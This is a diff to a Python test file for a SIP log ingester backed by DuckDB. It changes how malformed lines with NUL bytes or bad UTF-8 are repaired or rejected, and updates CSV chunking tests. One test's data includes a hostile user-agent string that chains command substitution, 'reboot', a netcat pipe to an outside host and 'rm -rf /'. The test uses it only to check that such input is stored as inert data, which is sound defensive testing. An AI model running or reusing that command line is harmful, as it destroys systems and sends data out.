@@ -131,7 +131,7 @@ def test_chunk_boundaries_do_not_change_the_result(tmp_path: Path, formats: dict
     assert row == [(78, raw.index(b"garbage line"), "garbage line")]
 
 
-def test_hostile_input_is_rejected_with_reasons_or_stored_verbatim(
+def test_hostile_input_is_stored_verbatim_or_repaired_or_rejected_with_reasons(
         tmp_path: Path, db: Path, cli: Callable[..., Run]) -> None:
     rng = random.Random(7)
     evil_uas = ['$(reboot); `id` | nc 192.0.2.1 4444 && rm -rf / #',
@@ -144,7 +144,8 @@ def test_hostile_input_is_rejected_with_reasons_or_stored_verbatim(
         line = f'2026-11-20 04:00:00.000 [INFO] RECV OPTIONS from 192.0.2.9:5060 callid="e" ua="{ua}"'
         chunks.append(line.encode("utf-8") + b"\n")
     chunks.append(bytes(rng.randrange(256) for _ in range(5000)).replace(b"\n", b"") + b"\n")  # binary noise
-    bad_utf8 = b"2026-11-20 04:00:00.000 [INFO] RECV REGISTER from 192.0.2.9:5060 ua=\"\xc3\x28\"\n"
+    bad_utf8 = b"2026-11-20 04:00:00.000 [INFO] RECV REGISTER from 192.0.2.9:5060 user=\"\xff\" callid=\"e\x00\" " \
+               b"ua=\"\xc3\x28\"\n"
     chunks.append(bad_utf8)
     chunks.append(b"A" * (10 << 20) + b"\n")  # a 10 MB line
     chunks.append(b"\x00\x00\x00\n")
@@ -158,21 +159,22 @@ def test_hostile_input_is_rejected_with_reasons_or_stored_verbatim(
     total = len(chunks)
     assert summary["lines"] == total
     assert summary["parsed"] + summary["ignored"] + summary["rejected"] == total
+    assert summary["repaired"] == 4  # the NUL user-agent, the binary noise, the bad UTF-8, the NULs
     con = duckdb.connect(str(db), read_only=True)
-    stored = {r[0] for r in con.execute("SELECT user_agent FROM sip_events WHERE method = 'OPTIONS'").fetchall()}
+    stored = {r[0]: r[1] for r in con.execute(
+        "SELECT user_agent, repaired FROM sip_events WHERE method = 'OPTIONS'").fetchall()}
     nul_ua = evil_uas[3]
-    assert stored == {ua for ua in evil_uas if "\x00" not in ua}  # stored verbatim, as data
+    # stored verbatim, as data; the one carrying a NUL stored too, its NUL replaced and the row flagged
+    assert stored == {**{ua: False for ua in evil_uas if "\x00" not in ua}, nul_ua.replace("\x00", "\ufffd"): True}
+    assert con.execute("SELECT src_ip, username, call_id, user_agent, repaired FROM sip_events WHERE line_no = ?",
+                       [4 + 4 + 2]).fetchall() == [("192.0.2.9", "\ufffd", "e\ufffd", "\ufffd(", True)]  # repaired
     reasons = dict(con.execute("SELECT line_no, reason FROM rejects").fetchall())
-    at = bad_utf8.index(b"\xc3")
-    assert reasons[4 + 4 + 2] == f"invalid UTF-8 at byte {at}"
-    assert reasons[4 + 4 + 3] == f"line too long ({10 << 20} bytes)"
-    assert reasons[4 + 4 + 4] == "NUL byte in line"
-    assert reasons[4 + 4 + 1].startswith(("invalid UTF-8", "NUL byte", "no pattern"))  # the binary noise
-    assert reasons[4 + 4] == "NUL byte in line"  # the user-agent carrying a NUL: refused, kept in rejects
-    raw_nul = con.execute("SELECT raw FROM rejects WHERE line_no = 8").fetchall()[0][0]
-    assert "\\x00" in raw_nul and nul_ua.replace("\x00", "\\x00") in raw_nul
+    assert reasons == {4 + 4 + 1: "no pattern matched",  # the binary noise
+                       4 + 4 + 3: f"line too long ({10 << 20} bytes)", 4 + 4 + 4: "no pattern matched"}
+    assert con.execute("SELECT raw FROM rejects WHERE line_no = ?", [4 + 4 + 4]).fetchall() == [("\ufffd" * 3,)]
     assert con.execute("SELECT max(strlen(raw)) FROM rejects").fetchall()[0][0] <= 4096 * 4
-    assert con.execute("SELECT count(*) FROM sip_events").fetchall()[0][0] == 3 + 3 + 3  # 2 good+1, 3 evil, ...
+    assert con.execute("SELECT count(*) FROM sip_events").fetchall()[0][0] == 3 + 3 + 4 + 1
+    assert con.execute("SELECT count(*) FROM sip_events WHERE NOT repaired").fetchall()[0][0] == 3 + 3 + 3
     con.close()
 
 
@@ -293,15 +295,15 @@ def test_csv_pieces_hold_whole_lines_piece_rows_at_a_time(tmp_path: Path, monkey
     path = tmp_path / "rows.csv"
     path.write_bytes(b"header\n" + b"".join(lines) + b"tail")
     for final in (False, True):
-        pieces = list(ingest_csv._pieces(path, 7, size, final))
+        pieces = [(p.body, p.end) for p in ingest_csv._pieces(path, 7, size, final)]
         assert [p.count(b"\n") for p, _ in pieces] == [1000] * 4 + [321] + ([0] if final else [])
         assert b"".join(p for p, _ in pieces) == b"".join(lines) + (b"tail" if final else b"")
         ends = [end for _, end in pieces]
         assert ends == [7 + sum(len(p) for p, _ in pieces[:i + 1]) for i in range(len(pieces))]
     # lines too long for PIECE_ROWS of them in PIECE_BLOCKS reads: pieces end at their last whole line
-    pieces = list(ingest_csv._pieces(path, 7, 1 << 16, True))
+    pieces = [(p.body, p.end) for p in ingest_csv._pieces(path, 7, 1 << 16, True)]
     monkeypatch.setattr(ingest_csv, "PIECE_ROWS", 10**6)
-    long = list(ingest_csv._pieces(path, 7, 1 << 16, True))
+    long = [(p.body, p.end) for p in ingest_csv._pieces(path, 7, 1 << 16, True)]
     assert len(long) >= 3 and all(len(p) < 5 * (1 << 16) and p.endswith(b"\n") for p, _ in long[:-1])
     assert b"".join(p for p, _ in long) == b"".join(p for p, _ in pieces)
 
